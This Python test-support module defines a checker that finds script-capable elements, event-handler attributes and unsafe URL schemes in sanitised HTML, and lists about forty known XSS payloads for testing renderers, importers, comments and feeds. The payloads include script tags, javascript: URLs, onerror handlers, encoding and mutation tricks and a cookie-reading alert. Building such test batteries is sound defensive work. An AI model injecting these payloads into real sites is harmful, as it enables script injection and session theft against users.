"""What makes sanitised HTML unsafe for a reader, and known XSS payloads: shared by the property
tests of the renderer and the importer, and the XSS batteries of comments and feeds."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

SAFE_URL_SCHEMES = {"", "http", "https", "mailto", "tel"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "data", "xlink:href", "poster"}
# Browsers ignore these inside a URL's scheme ("jav&#x09;ascript:").
IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20\x7f]+")


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    handle_startendtag = handle_starttag


def url_scheme(value):
    cleaned = IGNORED_IN_SCHEME.sub("", value or "")
    try:
        return urlsplit(cleaned).scheme.lower()
    except ValueError:  # e.g. an unbalanced "[" in what looks like a host
        return "?"


def unsafe_parts(html, allowed_tags):
    """Every element, attribute or URL in `html` that could run script or load unexpected
    content; an empty list for HTML safe to show a reader."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    problems = []
    if re.search(r"<\s*script", html, re.IGNORECASE):
        problems.append("a <script> tag")
    for tag, attrs in parser.found:
        if tag not in allowed_tags:
            problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"<{tag} {name}>")
            if name in {"style", "target", "srcdoc", "formaction"}:
                problems.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and url_scheme(value) not in SAFE_URL_SCHEMES:
                problems.append(f"<{tag} {name}={value!r}>")
    return problems


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click me</a>',
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">entities</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "data:text/html,<script>alert(1)</script>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<img src="x"\nonerror="alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    'https://example.com/"onmouseover="alert(1)',
    "https://example.com/<script>alert(1)</script>",
    "http://example.com/?a=1&b=<img/src/onerror=alert(1)>",
    'https://evil.example/#"><svg onload=alert(1)>',
    '<a href="https://example.com" onclick="alert(1)">looks fine</a>',
    "{{ request.user }}{% debug %}",
]
